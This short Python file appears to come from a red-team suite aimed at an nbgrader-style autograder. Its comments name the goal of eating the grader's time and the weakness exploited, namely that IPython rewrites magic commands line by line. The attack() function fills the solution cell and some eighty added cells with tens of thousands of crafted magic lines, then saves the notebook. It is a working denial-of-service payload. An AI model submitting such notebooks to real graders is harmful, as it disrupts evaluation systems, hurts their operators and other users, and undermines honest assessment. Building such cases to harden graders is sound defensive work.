# aim: the grader's time: IPython reads a cell anew for every line of its own, and it has 20,000
# pays: time
# weak: rewrites magics with IPython, in its own process
import nbformat


def attack(folder, release, marker):
    cell = next(c for c in release.cells if c.metadata.get("nbgrader", {}).get("solution"))
    cell.source = "%x\n" + ",x\n" * 20_000
    more = ["%x\n" * 99 + "a = (1, 2)\n" * 8_000, "%x\n" + "a.b" * 30_000 + "?\n"]
    release.cells += [nbformat.v4.new_code_cell(source) for source in more * 40]
    nbformat.write(release, folder / "seq2seq.ipynb")
